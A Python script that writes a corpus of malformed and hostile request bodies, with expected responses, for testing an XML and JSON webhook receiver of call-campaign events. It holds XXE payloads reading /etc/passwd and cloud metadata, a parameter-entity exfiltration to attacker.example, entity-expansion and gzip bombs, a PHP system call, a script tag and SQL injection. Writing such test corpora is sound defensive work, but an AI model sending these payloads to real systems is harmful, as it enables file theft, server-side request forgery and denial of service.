"""Writes the hostile corpus: `python tests/events/hostile/make_corpus.py`. The bodies are committed;
this script documents how the large and binary ones were made, and remakes them identically.
`expected.json` holds each body's expected answer (status, error code, request headers)."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
CALL_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<call-finished>\n<callid>{id}</callid>\n<campaignid>66600</campaignid>\n'
CALL_TAIL = "</call-finished>\n"
LIMIT = 256 * 1024


def call(call_id: str, inner: str = "") -> str:
    return CALL_HEAD.format(id=call_id) + inner + CALL_TAIL


BODIES: dict[str, tuple[bytes, dict[str, object]]] = {}


def add(
    name: str, body: str | bytes, status: int, error: str | None = None, **extra: object
) -> None:
    data = body.encode("utf-8") if isinstance(body, str) else body
    BODIES[name] = (data, {"status": status, "error": error, **extra})


add(
    "xxe_file.xml",
    '<?xml version="1.0"?>\n<!DOCTYPE call-finished [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<call-finished><callid>&x;</callid></call-finished>\n',
    400,
    "forbidden_xml",
)
add(
    "xxe_http.xml",
    '<?xml version="1.0"?>\n<!DOCTYPE call-finished [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n<call-finished><callid>&x;</callid></call-finished>\n',
    400,
    "forbidden_xml",
)
add(
    "external_dtd.xml",
    '<?xml version="1.0"?>\n<!DOCTYPE call-finished SYSTEM "http://attacker.example/evil.dtd">\n<call-finished><callid>1</callid></call-finished>\n',
    400,
    "forbidden_xml",
)
add(
    "parameter_entities.xml",
    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://attacker.example/?%file;\'>">%eval;%exfil;]>\n<call-finished><callid>1</callid></call-finished>\n',
    400,
    "forbidden_xml",
)
laughs = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
add(
    "billion_laughs.xml",
    f'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol0 "lol">{laughs}]>\n<call-finished><callid>&lol9;</callid></call-finished>\n',
    400,
    "forbidden_xml",
)
add(
    "quadratic_blowup.xml",
    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "'
    + "a" * 50_000
    + '">]>\n<call-finished><callid>1</callid><notes>'
    + "&a;" * 1000
    + "</notes></call-finished>\n",
    400,
    "forbidden_xml",
)
add(
    "internal_subset_only.xml",
    '<?xml version="1.0"?>\n<!DOCTYPE call-finished [<!ELEMENT call-finished ANY>]>\n<call-finished><callid>1</callid></call-finished>\n',
    400,
    "forbidden_xml",
)
add(
    "deep_nesting_10000.xml",
    call("7001", "<survey>" * 10_000 + "deep" + "</survey>" * 10_000 + "\n"),
    200,
    kind="call",
)
add(
    "deep_known_nesting_10000.xml",
    call("7002", "<notes>" * 10_000 + "</notes>" * 10_000 + "\n"),
    200,
    kind="call",
)
add(
    "over_limit.xml",
    call("7003", "<notes>" + "x" * (LIMIT + 1) + "</notes>\n"),
    413,
    "body_too_large",
)
add("huge_value.xml", call("7004", "<notes>" + "n" * 150_000 + "</notes>\n"), 200, kind="call")
add(
    "huge_value_body_in_bucket.xml",
    call("7005", "<notes>" + "n" * 200_000 + "</notes>\n"),
    200,
    kind="call",
)
add(
    "thousand_recordings.xml",
    call(
        "7030",
        "<recordings>" + "<file>https://www.callfire.com/r/1</file>" * 1000 + "</recordings>\n",
    ),
    413,
    "body_too_large",
)
add(
    "gzip_encoded.xml.gz",
    gzip.compress(call("7006", "<disposition>LA</disposition>\n").encode(), mtime=0),
    200,
    kind="call",
    headers={"content-encoding": "gzip"},
)
add(
    "gzip_bomb.xml.gz",
    gzip.compress(call("7007", "<notes>" + "\n" * (64 * LIMIT) + "</notes>").encode(), mtime=0),
    413,
    "body_too_large",
    headers={"content-encoding": "gzip"},
)
add(
    "gzip_corrupt.xml.gz",
    b"\x1f\x8b\x08\x00" + b"\x00" * 40,
    400,
    "not_well_formed",
    headers={"content-encoding": "gzip"},
)
add("brotli_encoding.xml", call("7008"), 400, "not_well_formed", headers={"content-encoding": "br"})
add(
    "latin1_accents.xml",
    (
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n<call-finished><callid>7009</callid><notes>Café crème, señor Müller</notes></call-finished>\n'
    ).encode("latin-1"),
    200,
    kind="call",
    headers={"content-type": "application/xml; charset=ISO-8859-1"},
    stored={"notes": "Café crème, señor Müller"},
)
add(
    "windows1252_quotes.xml",
    (
        '<?xml version="1.0" encoding="windows-1252"?>\n<call-finished><callid>7010</callid><notes>\u201cquoted\u201d \u2013 \u20ac5</notes></call-finished>\n'
    ).encode("cp1252"),
    200,
    kind="call",
    stored={"notes": "\u201cquoted\u201d \u2013 \u20ac5"},
)
add("utf8_bom.xml", b"\xef\xbb\xbf" + call("7011").encode(), 200, kind="call")
add("utf16_bom.xml", call("7012").replace("UTF-8", "UTF-16").encode("utf-16"), 200, kind="call")
add(
    "cdata.xml",
    call("7013", "<notes><![CDATA[<b>bold</b> & </notes> inside]]></notes>\n"),
    200,
    kind="call",
    stored={"notes": "<b>bold</b> & </notes> inside"},
)
add(
    "unclosed_cdata.xml",
    call("7014", "<notes><![CDATA[never closed</notes>\n"),
    400,
    "not_well_formed",
)
add("truncated.xml", call("7015", "<disposition>LA</disposition>\n")[:-40], 400, "not_well_formed")
add(
    "unknown_root.xml",
    '<?xml version="1.0"?>\n<call-started><callid>1</callid></call-started>\n',
    422,
    "unknown_report",
)
add(
    "api11_notification.xml",
    '<n:CallFinished xmlns:n="http://api.callfire.com/notification/xsd"><n:SubscriptionId>1</n:SubscriptionId></n:CallFinished>\n',
    422,
    "unknown_report",
)
add(
    "missing_callid.xml",
    "<call-finished><campaignid>1</campaignid></call-finished>\n",
    422,
    "unknown_report",
)
add("callid_too_long.xml", call("9" * 600), 422, "unknown_report")
add(
    "json_body.json",
    '{"callid": "1", "campaignid": "2"}',
    400,
    "not_well_formed",
    headers={"content-type": "application/json"},
)
add("empty_body.xml", b"", 400, "not_well_formed")
add("whitespace_only.xml", "  \n\t\n", 400, "not_well_formed")
add(
    "form_encoded.txt",
    "xml=%3Ccall-finished%3E%3Ccallid%3E1%3C%2Fcallid%3E%3C%2Fcall-finished%3E",
    400,
    "not_well_formed",
    headers={"content-type": "application/x-www-form-urlencoded"},
)
add(
    "control_characters.xml",
    call("7016", "<notes>bell \x07 here</notes>\n"),
    400,
    "not_well_formed",
)
add("null_byte.xml", call("7017", "<notes>nul \x00 here</notes>\n"), 400, "not_well_formed")
add(
    "invalid_utf8.xml",
    call("7018").encode().replace(b"<campaignid>", b"<campaignid>\xff\xfe"),
    400,
    "not_well_formed",
)
add(
    "unknown_encoding.xml",
    '<?xml version="1.0" encoding="x-klingon"?><call-finished><callid>1</callid></call-finished>',
    400,
    "not_well_formed",
)
add(
    "two_roots.xml",
    "<call-finished><callid>1</callid></call-finished><call-finished><callid>2</callid></call-finished>",
    400,
    "not_well_formed",
)
add(
    "repeated_elements.xml",
    call(
        "7019",
        "<disposition>LA</disposition><disposition>AM</disposition><duration>1</duration><duration>2</duration>\n",
    ),
    200,
    kind="call",
    stored={"disposition": "LA"},
)
add(
    "thousand_tags.xml",
    call("7020", "<tags>" + "".join(f"<tag>tag {i}</tag>" for i in range(1000)) + "</tags>\n"),
    200,
    kind="call",
)
add(
    "thousand_stored_variables.xml",
    call(
        "7021",
        "<stored-data>"
        + "".join(f'<var name="v{i}">{i}</var>' for i in range(1000))
        + "</stored-data>\n",
    ),
    200,
    kind="call",
)
add(
    "thousand_attributes.xml",
    call("7022", "<carrier " + " ".join(f'a{i}="{i}"' for i in range(1000)) + "/>\n"),
    200,
    kind="call",
)
add(
    "processing_instruction.xml",
    call("7023", '<?php system("id"); ?><notes>kept</notes>\n'),
    200,
    kind="call",
    stored={"notes": "kept"},
)
add(
    "xinclude.xml",
    call(
        "7024",
        '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>\n',
    ),
    200,
    kind="call",
)
add(
    "script_in_values.xml",
    call(
        "7025",
        "<notes>&lt;script&gt;alert(1)&lt;/script&gt;</notes><agentresponse>'; DROP TABLE calls; --</agentresponse>\n",
    ),
    200,
    kind="call",
    stored={"notes": "<script>alert(1)</script>", "agentResponse": "'; DROP TABLE calls; --"},
)
add(
    "crlf_line_endings.xml",
    call("7026", "<disposition>\r\nLA\r\n</disposition>\r\n").replace("\n", "\r\n"),
    200,
    kind="call",
    stored={"disposition": "LA"},
)
add(
    "many_comments.xml",
    call("7027", "<!-- c -->" * 20_000 + "<disposition>LA</disposition>\n"),
    200,
    kind="call",
)
add(
    "campaign_non_numeric_stats.xml",
    "<campaign-finished><campaign><id>7028</id><cost>lots</cost><campaign-stats><total>NaN</total><live>-1</live></campaign-stats></campaign></campaign-finished>",
    200,
    kind="campaign",
    stored={"costRaw": "lots", "live": -1},
)


# v2 webhook deliveries (route /webhooks, signed with the stack's webhook secret unless said).


def webhook(
    name: str, body: str | bytes, status: int, error: str | None = None, **extra: object
) -> None:
    add(name, body, status, error, route="webhooks", **extra)


def v2_call(call_id: object, **resource: object) -> dict[str, object]:
    return {
        "timestamp": 1469540830377,
        "webhookId": 3749003,
        "resourceType": "OutboundCall",
        "eventType": "Finished",
        "resource": {"id": call_id, "campaignId": 66600, "toNumber": "12132041238", **resource},
    }


def envelope(*events: object) -> str:
    return json.dumps({"timestamp": 1469540830377, "webhookId": 3749003, "events": list(events)})


webhook(
    "json_deep_nesting_100000.json",
    '{"events": [' + "[" * 100_000 + "]" * 100_000 + "]}",
    400,
    "not_well_formed",
)
webhook(
    "json_deep_objects_10000.json",
    envelope(v2_call(88000001)).replace(
        '"toNumber"', '"deep": ' + '{"a":' * 10_000 + "1" + "}" * 10_000 + ', "toNumber"'
    ),
    400,
    "not_well_formed",
)
webhook(
    "json_nesting_within_limit.json",
    envelope(v2_call(88000002)).replace(
        '"toNumber"', '"deep": ' + '{"a":' * 50 + "1" + "}" * 50 + ', "toNumber"'
    ),
    200,
    outcomes={"stored": 1},
    stored={"callId": "88000002", "phoneNumber": "12132041238"},
)
webhook(
    "json_huge_numbers.json",
    envelope(v2_call(88000003)).replace(
        '"toNumber"', '"huge": 1' + "0" * 5000 + ', "far": 1e999, "tiny": -1e-500, "toNumber"'
    ),
    200,
    outcomes={"stored": 1},
    stored={"callId": "88000003"},
)
webhook(
    "json_id_above_2_to_the_64.json",
    envelope(v2_call(18446744073709551617123)),
    200,
    outcomes={"stored": 1},
    stored={"callId": "18446744073709551617123"},
)
webhook("json_id_too_long.json", envelope(v2_call(int("9" * 600))), 422, "unknown_report")
webhook(
    "json_duplicate_keys.json",
    '{"events": [{"resourceType": "OutboundCall", "eventType": "Finished", "resource": {"id": 88000004, "id": 88000005}}]}',
    400,
    "not_well_formed",
)
webhook(
    "json_duplicate_events.json",
    '{"events": [], "events": [' + envelope(v2_call(88000006))[1:-1] + "]}",
    400,
    "not_well_formed",
)
webhook(
    "json_invalid_utf8.json",
    envelope(v2_call(88000007, note="caf\u00e9")).encode().replace(b"caf\\u00e9", b"caf\xe9"),
    400,
    "not_well_formed",
)
webhook("json_utf16.json", envelope(v2_call(88000008)).encode("utf-16"), 400, "not_well_formed")
webhook(
    "json_utf8_bom.json",
    b"\xef\xbb\xbf" + envelope(v2_call(88000009)).encode(),
    200,
    outcomes={"stored": 1},
)
webhook(
    "json_10000_events.json",
    '{"events": [' + ",".join(["{}"] * 10_000) + "]}",
    413,
    "body_too_large",
)
webhook(
    "json_over_limit.json",
    envelope(v2_call(88000010, blob="x" * (LIMIT + 1))),
    413,
    "body_too_large",
)
webhook(
    "json_wrong_types.json",
    envelope(
        v2_call(88000011, fromNumber=12132212384, inbound="no", labels="one", records={"id": 1}),
        v2_call("eighty-eight"),
        {"resourceType": "OutboundCall", "eventType": "Finished", "resource": []},
        7,
        None,
    ),
    200,
    outcomes={"stored": 1, "refused": 4},
    stored={
        "callId": "88000011",
        "extra": {
            "fromNumber": 12132212384,
            "inbound": "no",
            "labels": "one",
            "records": {"id": 1},
        },
    },
)
webhook("json_events_not_an_array.json", '{"events": {"0": {}}}', 400, "no_events")
webhook(
    "json_no_events.json",
    '{"webhookId": 3749003, "resourceType": "OutboundCall"}',
    400,
    "no_events",
)
webhook("json_array_body.json", "[" + envelope(v2_call(88000012)) + "]", 400, "no_events")
webhook("json_empty_events.json", '{"events": []}', 422, "unknown_report")
webhook("json_nan.json", '{"events": [{"resource": {"id": NaN}}]}', 400, "not_well_formed")
webhook(
    "json_trailing_data.json",
    envelope(v2_call(88000013)) + ' {"events": []}',
    400,
    "not_well_formed",
)
webhook("json_truncated.json", envelope(v2_call(88000014))[:-20], 400, "not_well_formed")
webhook("json_xml_body.json", call("88000015"), 400, "not_well_formed")
webhook(
    "json_gzip_encoded.json.gz",
    gzip.compress(envelope(v2_call(88000016)).encode(), mtime=0),
    200,
    outcomes={"stored": 1},
    headers={"content-encoding": "gzip"},
)
webhook(
    "json_other_resource_type.json",
    envelope(
        {
            "timestamp": 1496758301033,
            "webhookId": 77,
            "resourceType": "ContactList",
            "eventType": "ValidationFailed",
            "resource": {"id": 1},
        }
    ),
    200,
    outcomes={"kept": 1},
)
webhook(
    "json_signature_over_other_bytes.json",
    envelope(v2_call(88000017)),
    403,
    "forbidden",
    signature="over-other-bytes",
)
webhook("json_unsigned.json", envelope(v2_call(88000018)), 403, "forbidden", signature="none")


def main() -> None:
    expected = {}
    for name, (body, answer) in BODIES.items():
        (HERE / name).write_bytes(body)
        expected[name] = {key: value for key, value in answer.items() if value is not None}
    (HERE / "expected.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
    print(f"{len(BODIES)} bodies written to {HERE}")


if __name__ == "__main__":
    main()
